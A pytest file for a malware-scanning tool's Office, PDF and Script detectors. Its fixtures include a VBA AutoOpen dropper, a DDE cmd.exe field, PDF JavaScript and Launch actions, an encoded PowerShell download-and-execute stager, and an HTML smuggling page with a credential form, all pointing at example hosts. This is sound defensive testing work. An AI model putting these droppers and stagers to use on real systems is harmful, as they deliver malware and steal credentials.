"""The Office, PDF and Script services on documents and scripts written here, byte by byte.

The OLE files are built by a small compound-file writer below, and the VBA projects inside
them by hand (dir stream records, MS-OVBA "compression" with literal tokens only), so macro
extraction is tested on real OLE structures rather than on oletools' own test files.
"""

from __future__ import annotations

import base64
import io
import itertools
import random
import struct
import zipfile
import zlib
from pathlib import Path

import pytest

from assay.services import registry
from assay.services.base import FileRequest, Result, Service
from assay.services.office import Office
from assay.services.pdf import PDF
from assay.services.script import Script
from tests.helpers.paths import PE_SAMPLES

EXE = (PE_SAMPLES / "cli-32.exe").read_bytes()  # a real PE32 to embed in documents


def run(
    service: Service, tmp_path: Path, name: str, data: bytes, file_type: str = "unknown", **params: object
) -> Result:
    path = tmp_path / name
    path.write_bytes(data)
    request = FileRequest(path=path, sha256="", name=name, size=len(data), file_type=file_type, params=params)
    return service.execute(request)


def tags(result: Result) -> set[tuple[str, str]]:
    return {(t.type, t.value) for t in result.tags()}


# -- a compound file writer ----------------------------------------------------------------------

END, FREE, FATSECT = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD


def build_cfb(streams: dict[str, bytes]) -> bytes:
    """An OLE compound file (v3, 512-byte sectors) holding ``streams`` by slash-separated path."""
    entries: list[dict] = [{"name": "Root Entry", "type": 5, "kids": []}]
    index: dict[tuple[str, ...], int] = {(): 0}
    for path, data in streams.items():
        parts = tuple(path.split("/"))
        for depth in range(1, len(parts) + 1):
            key = parts[:depth]
            if key not in index:
                index[key] = len(entries)
                entry = {"name": key[-1], "type": 2 if depth == len(parts) else 1, "kids": []}
                if depth == len(parts):
                    entry["data"] = data
                entries.append(entry)
                entries[index[key[:-1]]]["kids"].append(index[key])
    sectors: list[bytes] = []
    fat: list[int] = []

    def alloc(blob: bytes) -> int:
        if not blob:
            return END
        start = len(sectors)
        count = -(-len(blob) // 512)
        for k in range(count):
            sectors.append(blob[k * 512 : (k + 1) * 512].ljust(512, b"\x00"))
            fat.append(start + k + 1 if k < count - 1 else END)
        return start

    mini, minifat = bytearray(), []
    for entry in entries:
        data = entry.get("data")
        if data is None or len(data) >= 4096:
            continue
        entry["start"] = len(mini) // 64 if data else END
        count = -(-len(data) // 64)
        minifat += [entry["start"] + k + 1 if k < count - 1 else END for k in range(count)]
        mini += data.ljust(count * 64, b"\x00")
    for entry in entries:
        if entry.get("data") is not None and len(entry["data"]) >= 4096:
            entry["start"] = alloc(entry["data"])
    entries[0]["start"], entries[0]["data"] = alloc(bytes(mini)), bytes(mini)
    minifat_start = alloc(b"".join(struct.pack("<I", v) for v in minifat))
    directory = b""
    for entry in entries:
        kids = entry["kids"]
        name = entry["name"].encode("utf-16-le") + b"\x00\x00"
        directory += struct.pack(
            "<64sHBBIII16sIQQIII",
            name,
            len(name),
            entry["type"],
            1,
            FREE,
            FREE,
            kids[0] if kids else FREE,
            b"\x00" * 16,
            0,
            0,
            0,
            entry.get("start", END),
            len(entry.get("data") or b""),
            0,
        )
    directory = _link_siblings(entries, directory)
    dir_start = alloc(directory.ljust(-(-len(directory) // 512) * 512, b"\x00"))
    fat_count = 1
    while fat_count * 128 < len(sectors) + fat_count:
        fat_count += 1
    fat_sectors = list(range(len(sectors), len(sectors) + fat_count))
    fat += [FATSECT] * fat_count
    fat += [FREE] * (fat_count * 128 - len(fat))
    fat_bytes = b"".join(struct.pack("<I", v) for v in fat)
    difat = fat_sectors + [FREE] * (109 - fat_count)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\x00" * 16,
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"\x00" * 6,
        0,
        fat_count,
        dir_start,
        0,
        4096,
        minifat_start,
        -(-len(minifat) * 4 // 512),
        END,
        0,
    ) + b"".join(struct.pack("<I", v) for v in difat)
    return header + b"".join(sectors) + fat_bytes


def _link_siblings(entries: list[dict], directory: bytes) -> bytes:
    """Chain each storage's children through their right-sibling field."""
    table = bytearray(directory)
    for entry in entries:
        kids = entry["kids"]
        for here, after in itertools.pairwise(kids):
            struct.pack_into("<I", table, here * 128 + 72, after)
    return bytes(table)


def ovba_compress(data: bytes) -> bytes:
    """MS-OVBA compressed container using literal tokens only (valid, just not smaller)."""
    out = bytearray(b"\x01")
    for start in range(0, len(data), 3584):
        chunk = bytearray()
        piece = data[start : start + 3584]
        for k in range(0, len(piece), 8):
            chunk += b"\x00" + piece[k : k + 8]
        out += struct.pack("<H", (len(chunk) + 2 - 3) | 0x3000 | 0x8000) + chunk
    return bytes(out)


def _record(rid: int, payload: bytes) -> bytes:
    return struct.pack("<HI", rid, len(payload)) + payload


def vba_project(modules: dict[str, str]) -> dict[str, bytes]:
    """Streams of a VBA project (PROJECT, VBA/dir, VBA/_VBA_PROJECT, one stream per module)."""
    name = b"VBAProject"
    records = (
        _record(0x01, struct.pack("<I", 1))
        + _record(0x02, struct.pack("<I", 0x409))
        + _record(0x14, struct.pack("<I", 0x409))
        + _record(0x03, struct.pack("<H", 1252))
        + _record(0x04, name)
        + _record(0x05, b"")
        + _record(0x40, b"")
        + _record(0x06, b"")
        + _record(0x3D, b"")
        + _record(0x07, struct.pack("<I", 0))
        + _record(0x08, struct.pack("<I", 0))
        + struct.pack("<HIIH", 0x09, 4, 1, 0)
        + _record(0x0C, b"")
        + _record(0x3C, b"")
        + struct.pack("<HIH", 0x0F, 2, len(modules))
        + _record(0x13, struct.pack("<H", 0xFFFF))
    )
    streams = {}
    for module in modules:
        raw = module.encode()
        records += (
            _record(0x19, raw)
            + _record(0x47, module.encode("utf-16-le"))
            + _record(0x1A, raw)
            + _record(0x32, module.encode("utf-16-le"))
            + _record(0x1C, b"")
            + _record(0x48, b"")
            + _record(0x31, struct.pack("<I", 0))
            + _record(0x1E, struct.pack("<I", 0))
            + _record(0x2C, struct.pack("<H", 0xFFFF))
            + struct.pack("<HI", 0x21, 0)
            + struct.pack("<HI", 0x2B, 0)
        )
        streams[f"VBA/{module}"] = ovba_compress(modules[module].encode())
    records += struct.pack("<HI", 0x10, 0)
    lines = [f"Module={m}" for m in modules]
    project = (
        'ID="{00000000-0000-0000-0000-000000000000}"\r\n'
        + "\r\n".join(lines)
        + '\r\nName="VBAProject"\r\n\r\n[Host Extender Info]\r\n'
    ).encode()
    streams.update(
        {
            "PROJECT": project,
            "VBA/dir": ovba_compress(records),
            "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        }
    )
    return streams


DROPPER_MACRO = (
    'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n'
    '  Dim s As String\r\n  s = "powershell -w hidden -c iwr http://macro.example.com/p.exe"\r\n'
    '  Shell s, vbHide\r\n  Set f = CreateObject("Scripting.FileSystemObject")\r\n'
    '  Open "C:\\Users\\Public\\p.exe" For Binary As #1\r\nEnd Sub\r\n'
)


def macro_doc(macro: str = DROPPER_MACRO) -> bytes:
    streams = {f"Macros/{k}": v for k, v in vba_project({"Module1": macro}).items()}
    streams["WordDocument"] = b"\xec\xa5" + b"\x00" * 4094
    return build_cfb(streams)


def ooxml(parts: dict[str, bytes | str], content_type: str = "wordprocessingml.document.main+xml") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            (
                '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                '<Override PartName="/word/document.xml" '
                'ContentType="application/vnd.openxmlformats-officedocument.'
                f'{content_type}"/></Types>'
            ),
        )
        for name, body in parts.items():
            archive.writestr(name, body)
    return buffer.getvalue()


def rels(*relations: tuple[str, str, bool]) -> str:
    body = "".join(
        f'<Relationship Id="rId{i}" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if external else ""}/>'
        for i, (kind, target, external) in enumerate(relations)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'


DOCUMENT_XML = (
    '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:document>"
)


def ole1_package(filename: bytes, payload: bytes) -> bytes:
    native = (
        struct.pack("<H", 2)
        + filename
        + b"\x00"
        + b"C:\\"
        + filename
        + b"\x00"
        + struct.pack("<II", 0, 3)
        + b"C:\\tmp\\"
        + filename
        + b"\x00"
        + struct.pack("<I", len(payload))
        + payload
        + b"\x00" * 8
    )
    return (
        struct.pack("<II", 0x0501, 2)
        + struct.pack("<I", 8)
        + b"Package\x00"
        + struct.pack("<II", 0, 0)
        + struct.pack("<I", len(native))
        + native
    )


# -- Office ----------------------------------------------------------------------------------------


def test_vba_dropper_in_ole_document_is_extracted_and_judged(tmp_path: Path) -> None:
    result = run(Office(), tmp_path, "invoice.doc", macro_doc(), "document/office/word")
    heuristics = set(result.heuristic_ids())
    assert {"office.macros", "office.autoexec", "office.suspicious_vba", "office.macro_dropper"} <= heuristics
    sources = [e.read().decode() for e in result.extracted if e.name.startswith("macro_")]
    assert len(sources) == 1 and "Sub AutoOpen()" in sources[0] and "Shell s, vbHide" in sources[0]
    assert ("network.static.uri", "http://macro.example.com/p.exe") in tags(result)


def test_harmless_macro_is_not_called_a_dropper(tmp_path: Path) -> None:
    macro = 'Attribute VB_Name = "Module1"\r\nFunction Add(a, b)\r\n  Add = a + b\r\nEnd Function\r\n'
    result = run(Office(), tmp_path, "calc.doc", macro_doc(macro), "document/office/word")
    assert "office.macros" in result.heuristic_ids()
    assert not {"office.autoexec", "office.macro_dropper", "office.suspicious_vba"} & set(result.heuristic_ids())


def test_macro_project_inside_ooxml_is_found(tmp_path: Path) -> None:
    project = build_cfb(vba_project({"Module1": DROPPER_MACRO}))
    data = ooxml({"word/document.xml": DOCUMENT_XML, "word/vbaProject.bin": project})
    result = run(Office(), tmp_path, "invoice.docm", data, "document/office/word")
    assert "office.macro_dropper" in result.heuristic_ids()


def test_remote_template_is_flagged_and_tagged(tmp_path: Path) -> None:
    data = ooxml(
        {
            "word/document.xml": DOCUMENT_XML,
            "word/_rels/settings.xml.rels": rels(("attachedTemplate", "http://tpl.example.com/t.dotm", True)),
            "word/_rels/document.xml.rels": rels(
                ("hyperlink", "https://docs.example.org/help", True), ("styles", "styles.xml", False)
            ),
        }
    )
    result = run(Office(), tmp_path, "t.docx", data, "document/office/word")
    assert "office.template_injection" in result.heuristic_ids()
    assert {
        ("network.static.uri", "http://tpl.example.com/t.dotm"),
        ("network.static.uri", "https://docs.example.org/help"),
    } <= tags(result)
    assert len(result.data["external_relationships"]) == 2


def test_hyperlinks_alone_are_tagged_but_not_scored(tmp_path: Path) -> None:
    data = ooxml(
        {
            "word/document.xml": DOCUMENT_XML,
            "word/_rels/document.xml.rels": rels(("hyperlink", "https://docs.example.org/", True)),
        }
    )
    result = run(Office(), tmp_path, "h.docx", data, "document/office/word")
    assert result.heuristic_ids() == []
    assert ("network.static.uri", "https://docs.example.org/") in tags(result)


def test_dde_field_is_found(tmp_path: Path) -> None:
    body = DOCUMENT_XML.replace(
        "<w:r><w:t>Invoice</w:t></w:r>",
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        "<w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\"
        'cmd.exe "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
    )
    result = run(Office(), tmp_path, "dde.docx", ooxml({"word/document.xml": body}), "document/office/word")
    assert "office.dde" in result.heuristic_ids()
    assert any("cmd.exe" in link for link in result.data["dde"])


def test_embedded_executable_in_ooxml_is_extracted(tmp_path: Path) -> None:
    data = ooxml({"word/document.xml": DOCUMENT_XML, "word/embeddings/oleObject1.bin": EXE})
    result = run(Office(), tmp_path, "e.docx", data, "document/office/word")
    assert {"office.embedded_object", "office.embedded_executable"} <= set(result.heuristic_ids())
    assert [e.read() for e in result.extracted] == [EXE]


def test_ole_package_stream_is_unpacked(tmp_path: Path) -> None:
    native = ole1_package(b"report.exe", EXE)[28:]  # the Ole10Native stream is the native data alone
    data = build_cfb({"WordDocument": b"\xec\xa5" + b"\x00" * 600, "ObjectPool/_1/\x01Ole10Native": native})
    result = run(Office(), tmp_path, "p.doc", data, "document/office/word")
    assert [(e.name, e.read()) for e in result.extracted] == [("report.exe", EXE)]
    assert "office.embedded_executable" in result.heuristic_ids()


def test_rtf_package_and_equation_objects(tmp_path: Path) -> None:
    package = ole1_package(b"evil.exe", EXE).hex().encode()
    equation = (
        (
            struct.pack("<II", 0x0501, 2)
            + struct.pack("<I", 11)
            + b"Equation.3\x00"
            + struct.pack("<II", 0, 0)
            + struct.pack("<I", 64)
            + b"\x1c\x00"
            + b"A" * 62
        )
        .hex()
        .encode()
    )
    rtf = (
        b"{\\rtf1\\ansi {\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + package + b"}}"
        b"{\\object\\objemb{\\*\\objdata " + equation + b"}}}"
    )
    result = run(Office(), tmp_path, "a.rtf", rtf, "document/office/rtf")
    assert {"office.embedded_executable", "office.equation_editor"} <= set(result.heuristic_ids())
    assert ("evil.exe", EXE) in [(e.name, e.read()) for e in result.extracted]


def test_encrypted_ooxml_is_flagged(tmp_path: Path) -> None:
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = io.BytesIO(ooxml({"word/document.xml": DOCUMENT_XML}))
    encrypted = io.BytesIO()
    OOXMLFile(plain).encrypt("infected", encrypted)
    result = run(Office(), tmp_path, "locked.docx", encrypted.getvalue(), "document/office/unknown")
    assert "office.encrypted" in result.heuristic_ids()
    assert "encrypted" in result.anomalies


def test_opendocument_basic_macros_are_extracted(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", "<office:document-content/>")
        archive.writestr("Basic/script-lc.xml", "<library:libraries/>")
        archive.writestr(
            "Basic/Standard/Module1.xml", '<script:module>Sub Main\nShell("calc")\nEnd Sub</script:module>'
        )
    result = run(Office(), tmp_path, "m.odt", buffer.getvalue(), "document/odt")
    assert "office.odf_macros" in result.heuristic_ids()
    assert [e.name for e in result.extracted] == ["Module1.xml"]


@pytest.mark.parametrize("name", ["garbage.doc", "cut.doc", "cut.docx", "cut.rtf"])
def test_broken_documents_are_reported_not_raised(tmp_path: Path, name: str) -> None:
    data = {
        "garbage.doc": random.Random(1).randbytes(5000),
        "cut.doc": macro_doc()[:3000],
        "cut.docx": ooxml({"word/document.xml": DOCUMENT_XML, "word/vbaProject.bin": macro_doc()})[:900],
        "cut.rtf": b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000" + b"zz" * 40,
    }[name]
    result = run(Office(), tmp_path, name, data, "document/office/unknown")
    assert isinstance(result, Result)
    if name != "cut.rtf":
        assert result.anomalies or not result.heuristic_ids()


# -- PDF -------------------------------------------------------------------------------------------


def pdf(*objects: bytes, trailer: bytes = b"trailer\n<< /Root 1 0 R >>\n%%EOF\n") -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"".join(objects) + trailer


def obj(number: int, body: bytes, stream: bytes | None = None) -> bytes:
    if stream is None:
        return b"%d 0 obj\n%s\nendobj\n" % (number, body)
    return b"%d 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (number, body, stream)


def test_active_pdf_is_taken_apart(tmp_path: Path) -> None:
    script = b"var u = 'http://js.example.com/x'; app.launchURL(u);"
    inner = b"<< /Type /Action /S /URI /URI (http://objstm.example.com/hidden) >>"
    data = pdf(
        obj(1, b"<< /Type /Catalog /OpenAction 3 0 R /Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >> >>"),
        obj(3, b"<< /Type /Action /S /J#61vaScript /JS 4 0 R >>"),
        obj(4, b"<< /Filter /FlateDecode >>", zlib.compress(script)),
        obj(
            5,
            b"<< /Type /Filespec /F (old.txt) /UF (\xfe\xff\x00r\x00u\x00n\x00.\x00e\x00x\x00e) /EF << /F 6 0 R >> >>",
        ),
        obj(6, b"<< /Type /EmbeddedFile /Filter /FlateDecode /Length 1 >>", zlib.compress(EXE)),
        obj(8, b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        obj(9, b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>", zlib.compress(b"7 0 " + inner)),
        obj(10, b"<< /S /JavaScript /JS (app.alert\\(1\\);\\012\\124est) >>"),
    )
    result = run(PDF(), tmp_path, "a.pdf", data, "document/pdf")
    assert {
        "pdf.javascript",
        "pdf.auto_action",
        "pdf.launch",
        "pdf.embedded_file",
        "pdf.embedded_executable",
        "pdf.name_obfuscation",
    } <= set(result.heuristic_ids())
    children = {e.name: e.read() for e in result.extracted}
    assert children["run.exe"] == EXE
    assert script in children.values()
    assert b"app.alert(1);\nTest" in children.values()
    assert {
        ("network.static.uri", "http://objstm.example.com/hidden"),
        ("network.static.uri", "http://js.example.com/x"),
        ("file.path", "cmd.exe"),
    } <= tags(result)
    assert result.data["summary"]["objects_in_object_streams"] == 1


def test_plain_pdf_raises_nothing(tmp_path: Path) -> None:
    data = pdf(obj(1, b"<< /Type /Catalog /Pages 2 0 R >>"), obj(2, b"<< /Type /Pages /Kids [] /Count 0 >>"))
    result = run(PDF(), tmp_path, "plain.pdf", data, "document/pdf")
    assert result.heuristic_ids() == []
    assert result.data["summary"]["objects"] == 2


def test_encrypted_pdf_is_flagged(tmp_path: Path) -> None:
    data = pdf(obj(1, b"<< /Type /Catalog >>"), trailer=b"trailer\n<< /Root 1 0 R /Encrypt 2 0 R >>\n%%EOF\n")
    result = run(PDF(), tmp_path, "e.pdf", data, "document/pdf")
    assert "pdf.encrypted" in result.heuristic_ids() and result.data["summary"]["encrypted"]


def test_decompression_bomb_stops_at_the_limit(tmp_path: Path) -> None:
    bomb = zlib.compress(b"\x00" * (8 << 20), 9)
    data = pdf(
        obj(1, b"<< /Type /Filespec /F (zeros.bin) /EF << /F 2 0 R >> >>"),
        obj(2, b"<< /Type /EmbeddedFile /Filter /FlateDecode >>", bomb),
    )
    result = run(PDF(), tmp_path, "bomb.pdf", data, "document/pdf", max_stream_size=1 << 16)
    assert [len(e.read()) for e in result.extracted] == [1 << 16]
    assert any("over size limit" in p for f in result.data["embedded_files"] for p in f["problems"])


def test_broken_pdfs_are_reported_not_raised(tmp_path: Path) -> None:
    full = pdf(obj(1, b"<< /JS (unterminated"), obj(2, b"<< /Filter /FlateDecode >>", b"not zlib at all"))
    for cut in (5, 40, len(full) - 10):
        result = run(PDF(), tmp_path, "cut.pdf", full[:cut], "document/pdf")
        assert "pdf.malformed" in result.heuristic_ids()
    noise = run(PDF(), tmp_path, "noise.pdf", random.Random(9).randbytes(20000), "document/pdf")
    assert "pdf_no_header" in noise.anomalies


# -- Script ----------------------------------------------------------------------------------------


def test_encoded_powershell_is_decoded(tmp_path: Path) -> None:
    command = "IEX (New-Object Net.WebClient).DownloadString('http://stage2.example.com/a.ps1')"
    encoded = base64.b64encode(command.encode("utf-16-le")).decode()
    data = f"@echo off\r\npowershell.exe -nop -w hidden -enc {encoded}\r\n".encode()
    result = run(Script(), tmp_path, "run.bat", data, "code/batch")
    assert {"script.ps_encoded", "script.downloader", "script.dynamic_code"} <= set(result.heuristic_ids())
    assert result.data["powershell_commands"] == [command]
    assert ("network.static.uri", "http://stage2.example.com/a.ps1") in tags(result)
    assert "script.base64_blob" not in result.heuristic_ids()


def test_html_page_with_hidden_frame_phishing_form_and_smuggled_exe(tmp_path: Path) -> None:
    blob = base64.b64encode(EXE).decode()
    page = (
        '<html><body><iframe src="http://frame.example.org/" width="0" height="0"></iframe>'
        '<form action="https://collect.example.net/login" method="post">'
        '<input type="password" name="p"></form>'
        f'<script>var d=atob("{blob}");var b=new Blob([d]);var a=document.createElement("a");'
        'a.href=URL.createObjectURL(b);a.download="invoice.exe";a.click();</script></body></html>'
    ).encode()
    result = run(Script(), tmp_path, "page.html", page, "code/html")
    assert {
        "script.hidden_iframe",
        "script.credential_form",
        "script.html_smuggling",
        "script.embedded_file",
    } <= set(result.heuristic_ids())
    assert [e.read() for e in result.extracted] == [EXE]
    assert ("network.static.domain", "collect.example.net") in tags(result)


def test_charcode_and_eval_chain(tmp_path: Path) -> None:
    codes = ",".join(str(ord(c)) for c in "document.location='http://x.example.com/'" * 2)
    data = f"var s = String.fromCharCode({codes}); eval(unescape(s));".encode()
    result = run(Script(), tmp_path, "a.js", data, "code/javascript")
    assert {"script.charcode", "script.dynamic_code"} <= set(result.heuristic_ids())


def test_ordinary_script_raises_nothing(tmp_path: Path) -> None:
    data = b'#!/bin/sh\nset -e\nfor f in *.txt; do\n  echo "$f"\ndone\n'
    result = run(Script(), tmp_path, "ok.sh", data, "code/shell")
    assert result.heuristic_ids() == []


def test_binary_garbage_in_a_script_slot(tmp_path: Path) -> None:
    result = run(Script(), tmp_path, "x.js", random.Random(4).randbytes(50000), "code/javascript")
    assert isinstance(result, Result)


# -- all five together -----------------------------------------------------------------------------


def test_services_are_registered_with_unique_heuristics() -> None:
    names = {s.name for s in registry.services()}
    assert {"PE", "ELF", "Office", "PDF", "Script"} <= names
    catalogue = registry.heuristics()
    for service in (Office(), PDF(), Script()):
        for heuristic in service.heuristics:
            assert heuristic.id.startswith(service.name.lower() + ".")
            assert catalogue[heuristic.id] == heuristic
    assert Office().accepts_type("document/office/rtf") and Office().accepts_type("document/odt")
    assert PDF().accepts_type("document/pdf") and not PDF().accepts_type("document/office/word")
    assert Script().accepts_type("code/html") and not Script().accepts_type("text/plain")
